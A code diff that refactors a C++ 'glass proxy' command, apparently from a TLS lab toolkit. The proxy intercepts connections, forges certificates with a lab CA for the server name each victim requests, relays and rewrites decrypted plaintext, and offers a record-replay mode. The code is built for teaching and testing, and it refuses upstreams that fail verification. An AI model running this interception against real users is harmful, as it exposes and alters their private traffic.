@@ -80,79 +80,174 @@ struct Proxy {
     }
 };
 
-// One victim, start to end, on its own thread.
-void serve(Proxy& proxy, int victim_fd, std::string peer, std::size_t number) {
-    const std::string tag = "[conn " + std::to_string(number) + "] ";
-    auto say = [&](const std::string& line) { proxy.log.line(tag + line); };
+// Where a victim's connection goes: the name to impersonate, the server to relay to.
+struct Route {
+    std::string name;
+    HostPort target;
+};
+
+// One leg of a relayed connection: its TLS connection and the driver that moves its bytes.
+struct Leg {
+    Connection tls;
+    SocketDriver driver;
+    Leg(HtmlTranscript* page, int fd) : tls(crypto::system_random(), page), driver(tls, fd, proxy_deadlines) {}
+};
+
+// One victim's connection: its log tag and, with --html-dir, a page for each leg.
+struct VictimSession {
+    Proxy& proxy;
+    int victim_fd;
+    std::string peer;
+    std::size_t number;
+    std::string tag = "[conn " + std::to_string(number) + "] ";
     std::optional<HtmlTranscript> victim_page, upstream_page;
-    if (!proxy.html_dir.empty()) {
+    int upstream_fd = -1;
+
+    VictimSession(Proxy& p, int fd, std::string who, std::size_t n) : proxy(p), victim_fd(fd), peer(std::move(who)), number(n) {}
+    void say(const std::string& line) { proxy.log.line(tag + line); }
+
+    void open_pages() {
+        if (proxy.html_dir.empty()) return;
         victim_page.emplace("glass proxy: connection " + std::to_string(number) + ", the victim's leg (" + peer + ")", false);
         upstream_page.emplace("glass proxy: connection " + std::to_string(number) + ", the leg to the real server", true);
     }
-    int upstream_fd = -1;
-    try {
-        // 1. Where to: HTTP CONNECT, then the ClientHello's server name.
+
+    // 1. Where to: HTTP CONNECT, then the ClientHello's server name.
+    Route choose_route(Bytes& hello_bytes) {
         std::string connect_target;
         if (proxy.connect_mode) connect_target = read_connect_request(victim_fd);
-        Bytes hello_bytes;
         const std::string sni = read_client_hello(victim_fd, hello_bytes);
         const std::string name = !sni.empty() ? sni : !connect_target.empty() ? parse_host_port(connect_target).host
                                                        : proxy.upstream ? proxy.upstream->host : "";
         if (name.empty()) throw std::runtime_error("no server name (no SNI, no CONNECT, no --upstream): cannot tell whom to impersonate");
         const HostPort target = proxy.upstream ? *proxy.upstream : !connect_target.empty() ? parse_host_port(connect_target) : HostPort{name, "443"};
-        say(peer + " asks for " + name + "; relaying to " + host_port_text(target.host, target.port));
+        return {name, target};
+    }
 
-        // 2. The real server first: never impersonate one that fails verification.
-        upstream_fd = connect_tcp(target);
+    // 2. The real server first: never impersonate one that fails verification.
+    void meet_real_server(Leg& upstream, const std::string& name) {
         ClientConfig client_config;
         client_config.server_name = name;
         client_config.trust = &proxy.trust;
-        Connection upstream(crypto::system_random(), upstream_page ? &*upstream_page : nullptr);
-        upstream.set_engine(std::make_unique<ClientHandshake>(upstream, client_config));
-        SocketDriver upstream_driver(upstream, upstream_fd, proxy_deadlines);
+        upstream.tls.set_engine(std::make_unique<ClientHandshake>(upstream.tls, client_config));
         try {
-            upstream.start();
-            handshake(upstream_driver);
+            upstream.tls.start();
+            handshake(upstream.driver);
         } catch (const std::exception& e) {
             send_plain_alert(victim_fd, AlertDescription::handshake_failure);
             throw std::runtime_error(std::string("REFUSED: the real server failed verification (") + e.what() +
                                      "); not relaying — the proxy must not turn an invalid server into a trusted one");
         }
-        say("upstream verified: " + upstream.info().peer_chain.at(0).describe() + " (" + std::string(upstream.info().suite->openssl_name) + ")");
+        say("upstream verified: " + upstream.tls.info().peer_chain.at(0).describe() + " (" + std::string(upstream.tls.info().suite->openssl_name) + ")");
+    }
 
-        // 3. The victim, with a certificate forged for the name it asked for.
+    // 3. The victim, with a certificate forged for the name it asked for.
+    void deceive_victim(Leg& victim, const std::string& name, const Bytes& hello_bytes) {
         const ServerCredential& forged = proxy.forge(name);
         ServerConfig server_config;
         server_config.credentials = {forged};
-        Connection victim(crypto::system_random(), victim_page ? &*victim_page : nullptr);
-        victim.set_engine(std::make_unique<ServerHandshake>(victim, server_config));
-        SocketDriver victim_driver(victim, victim_fd, proxy_deadlines);
+        victim.tls.set_engine(std::make_unique<ServerHandshake>(victim.tls, server_config));
         try {
-            victim.receive(hello_bytes);
-            handshake(victim_driver);
+            victim.tls.receive(hello_bytes);
+            handshake(victim.driver);
         } catch (const TlsError& e) {
-            victim_driver.flush();
+            victim.driver.flush();
             throw std::runtime_error(std::string("the victim refused the forged certificate: ") + e.describe() +
-                                     (victim.alert_from_peer() ? " (it does not trust the lab CA)" : ""));
+                                     (victim.tls.alert_from_peer() ? " (it does not trust the lab CA)" : ""));
         }
         say("victim accepted the forged certificate for " + name + " (signed by " + proxy.ca->certificate().subject.to_string() + ")");
+    }
+
+    // Steps 1 to 4; throws, with the sentence for the log, when one fails.
+    void run() {
+        Bytes hello_bytes;
+        const Route route = choose_route(hello_bytes);
+        say(peer + " asks for " + route.name + "; relaying to " + host_port_text(route.target.host, route.target.port));
+        upstream_fd = connect_tcp(route.target);
+        Leg upstream(upstream_page ? &*upstream_page : nullptr, upstream_fd);
+        meet_real_server(upstream, route.name);
+        Leg victim(victim_page ? &*victim_page : nullptr, victim_fd);
+        deceive_victim(victim, route.name, hello_bytes);
 
         // 4. Relay, logging and rewriting the plaintext.
-        relay(victim_driver, upstream_driver, proxy.replacements, [&](const std::string& s) { say(s); });
+        relay(victim.driver, upstream.driver, proxy.replacements, [&](const std::string& s) { say(s); });
         say("closed");
-    } catch (const std::exception& e) {
-        say(e.what());
     }
-    if (upstream_fd >= 0) close(upstream_fd);
-    close(victim_fd);
-    if (victim_page) {
+
+    void save_pages() {
+        if (!victim_page) return;
         for (auto* page : {&*victim_page, &*upstream_page}) {
             const std::string path = proxy.html_dir + "/connection-" + std::to_string(number) + (page == &*victim_page ? "-victim" : "-upstream") + ".html";
             std::ofstream out(path, std::ios::trunc);
             page->write(out);
         }
     }
+};
+
+// One victim, start to end, on its own thread.
+void serve(Proxy& proxy, int victim_fd, std::string peer, std::size_t number) {
+    VictimSession session(proxy, victim_fd, std::move(peer), number);
+    session.open_pages();
+    try {
+        session.run();
+    } catch (const std::exception& e) {
+        session.say(e.what());
+    }
+    if (session.upstream_fd >= 0) close(session.upstream_fd);
+    close(victim_fd);
+    session.save_pages();
     --proxy.running;
+}
+
+// Without --ca: the plain relay, for the replay attack inside one connection.
+int run_plain(const Args& args, Proxy& proxy, const HostPort& where, std::size_t naccept) {
+    if (!proxy.upstream) throw UsageError("without --ca, give --upstream HOST:PORT (a plain TCP relay)");
+    const std::size_t replay = args.get_size("replay-record", 0);
+    const int listener = listen_or_say(where, "glass proxy");
+    if (listener < 0) return 1;
+    std::cerr << "glass proxy: listening on " << host_port_text(where.host, where.port) << ", relaying TCP to "
+              << host_port_text(proxy.upstream->host, proxy.upstream->port)
+              << (replay ? ", replaying the client's application_data record " + std::to_string(replay) : std::string()) << std::endl;
+    return run_plain_relay(listener, *proxy.upstream, replay, naccept, proxy.log);
+}
+
+// The lab CA, the --replace rules and the CAs the real server is checked against;
+// false, having said why, when one cannot be read.
+bool load_ca_and_trust(const Args& args, Proxy& proxy) {
+    try {
+        proxy.ca.emplace(*args.get("ca"));
+        for (const std::string& r : args.all("replace")) proxy.replacements.push_back(parse_replacement(r));
+        for (const std::string& f : args.all("cafile")) proxy.trust.add_file(f);
+        if (args.all("cafile").empty()) proxy.trust.add_system();
+    } catch (const std::invalid_argument& e) {
+        throw UsageError(e.what());
+    } catch (const std::runtime_error& e) {
+        std::cerr << "glass proxy: " << e.what() << "\n";
+        return false;
+    }
+    return true;
+}
+
+// Accepts victims until a signal or --naccept, each served on its own thread; returns how many.
+std::size_t accept_victims(Proxy& proxy, int listener, std::size_t naccept) {
+    std::size_t accepted = 0;
+    while (!g_stop && (naccept == 0 || accepted < naccept)) {
+        pollfd p{listener, POLLIN, 0};
+        if (poll(&p, 1, 200) <= 0) continue;
+        sockaddr_storage addr{};
+        socklen_t len = sizeof addr;
+        const int fd = accept4(listener, reinterpret_cast<sockaddr*>(&addr), &len, SOCK_CLOEXEC);
+        if (fd < 0) continue;
+        ++accepted;
+        if (proxy.running >= 256) {   // one thread each: a cap, so a flood cannot exhaust the machine
+            proxy.log.line("[conn " + std::to_string(accepted) + "] refused: 256 connections are being relayed already");
+            close(fd);
+            continue;
+        }
+        ++proxy.running;
+        std::thread(serve, std::ref(proxy), fd, peer_name(addr), accepted).detach();
+    }
+    return accepted;
 }
 
 } // namespace
@@ -172,28 +267,8 @@ int cmd_proxy(const std::vector<std::string>& argv) {
         if (!proxy.log.open(*path)) throw UsageError("cannot write " + *path);
     }
     const std::size_t naccept = args.get_size("naccept", 0);
-    if (!args.get("ca")) {
-        // The plain relay: for the replay attack inside one connection.
-        if (!proxy.upstream) throw UsageError("without --ca, give --upstream HOST:PORT (a plain TCP relay)");
-        const std::size_t replay = args.get_size("replay-record", 0);
-        const int listener = listen_or_say(where, "glass proxy");
-        if (listener < 0) return 1;
-        std::cerr << "glass proxy: listening on " << host_port_text(where.host, where.port) << ", relaying TCP to "
-                  << host_port_text(proxy.upstream->host, proxy.upstream->port)
-                  << (replay ? ", replaying the client's application_data record " + std::to_string(replay) : std::string()) << std::endl;
-        return run_plain_relay(listener, *proxy.upstream, replay, naccept, proxy.log);
-    }
-    try {
-        proxy.ca.emplace(*args.get("ca"));
-        for (const std::string& r : args.all("replace")) proxy.replacements.push_back(parse_replacement(r));
-        for (const std::string& f : args.all("cafile")) proxy.trust.add_file(f);
-        if (args.all("cafile").empty()) proxy.trust.add_system();
-    } catch (const std::invalid_argument& e) {
-        throw UsageError(e.what());
-    } catch (const std::runtime_error& e) {
-        std::cerr << "glass proxy: " << e.what() << "\n";
-        return 1;
-    }
+    if (!args.get("ca")) return run_plain(args, proxy, where, naccept);
+    if (!load_ca_and_trust(args, proxy)) return 1;
     proxy.connect_mode = args.flag("connect");
     proxy.html_dir = args.get("html-dir").value_or("");
     if (!proxy.html_dir.empty()) {
@@ -208,23 +283,7 @@ int cmd_proxy(const std::vector<std::string>& argv) {
     std::signal(SIGPIPE, SIG_IGN);
     std::cerr << "glass proxy: listening on " << host_port_text(where.host, where.port) << (proxy.connect_mode ? " (HTTP CONNECT)" : "")
               << ", forging certificates with " << proxy.ca->certificate().subject.to_string() << std::endl;
-    std::size_t accepted = 0;
-    while (!g_stop && (naccept == 0 || accepted < naccept)) {
-        pollfd p{listener, POLLIN, 0};
-        if (poll(&p, 1, 200) <= 0) continue;
-        sockaddr_storage addr{};
-        socklen_t len = sizeof addr;
-        const int fd = accept4(listener, reinterpret_cast<sockaddr*>(&addr), &len, SOCK_CLOEXEC);
-        if (fd < 0) continue;
-        ++accepted;
-        if (proxy.running >= 256) {   // one thread each: a cap, so a flood cannot exhaust the machine
-            proxy.log.line("[conn " + std::to_string(accepted) + "] refused: 256 connections are being relayed already");
-            close(fd);
-            continue;
-        }
-        ++proxy.running;
-        std::thread(serve, std::ref(proxy), fd, peer_name(addr), accepted).detach();
-    }
+    const std::size_t accepted = accept_victims(proxy, listener, naccept);
     close(listener);
     for (int i = 0; i < 400 && proxy.running > 0; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(25));
     std::cerr << "glass proxy: stopped after " << accepted << " connection" << (accepted == 1 ? "" : "s") << std::endl;
